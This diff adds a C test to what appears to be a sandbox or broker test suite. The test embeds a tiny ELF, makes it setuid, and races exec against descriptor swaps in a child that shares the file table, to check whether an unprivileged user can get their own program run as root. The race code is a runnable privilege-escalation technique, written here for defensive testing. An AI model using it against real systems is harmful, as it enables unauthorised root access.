@@ -233,3 +233,55 @@ static void outlive_forking(void)
 static enum outcome survive_session(void) { return in_child(outlive_asleep); }
 static enum outcome survive_stopped(void) { return in_child(outlive_stopped); }
 static enum outcome survive_forking(void) { return in_child(outlive_forking); }
+
+/* exit(0), as an ELF file. */
+static const unsigned char nothing[] = {
+    0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0,
+    0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0x38, 0, 1, 0, 0, 0, 0, 0, 0, 0,
+    1, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0,
+    0x81, 0, 0, 0, 0, 0, 0, 0, 0x81, 0, 0, 0, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0,
+    0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05,
+};
+
+static char setuid_program[64];
+static char *swap_args[] = {"swap", NULL};
+
+static int execute_setuid(void *unused)
+{
+    (void)unused;
+    execv(setuid_program, swap_args);
+    _exit(0);
+}
+
+/* A user executes a program of root's in a process that shares his descriptors, and puts his own program under the number that the broker gives
+ * it. His own says by RAN that it is root. */
+static void swap_program(void)
+{
+    static char stack[65536];
+    int mine = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), lowest = dup(mine), file;
+    snprintf(setuid_program, sizeof setuid_program, "tmp/setuid-%d", getpid());
+    file = open(setuid_program, O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
+    if (write(file, nothing, sizeof nothing) != sizeof nothing)
+        _exit(0);
+    close(file);
+    close(lowest);
+    if (chmod(setuid_program, 04755) != 0 || setgid(1234) != 0 || setuid(1234) != 0)
+        _exit(0);
+    for (int round = 0; goes_on(round); round++) {
+        int status = 0;
+        pid_t pid = clone(execute_setuid, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
+        while (waitpid(pid, &status, WNOHANG) == 0) {
+            dup3(mine, lowest, O_CLOEXEC);
+            for (int i = 0; i < round % 64; i++)
+                sched_yield();
+            close(lowest);
+            for (int i = 0; i < round % 512; i++)
+                __asm__ volatile("pause");
+        }
+        if (WIFEXITED(status) && WEXITSTATUS(status) == RAN)
+            _exit(RAN);
+    }
+    _exit(0);
+}
+
+static enum outcome exec_swap(void) { return in_child(swap_program); }
